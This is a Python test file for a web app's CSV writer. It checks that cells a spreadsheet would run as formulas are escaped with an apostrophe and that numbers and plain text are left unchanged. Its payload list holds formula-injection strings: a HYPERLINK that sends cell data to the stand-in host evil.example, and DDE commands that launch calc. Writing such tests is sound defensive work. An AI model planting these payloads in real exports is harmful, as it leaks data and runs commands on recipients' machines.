"""CSV cells that a spreadsheet would run as formulas come out as text."""

import csv
import io

import pytest

from webapp.common.spreadsheets import SafeCsvWriter, csv_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_apostrophe(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-0.42", "+3", "-1e-3", "12", "", "plain text", "a=b", 7, None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_writer_neutralises_every_cell_and_round_trips():
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["title", "score"])
    writer.writerows([[payload, "-0.5"] for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["title", "score"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-0.5"}
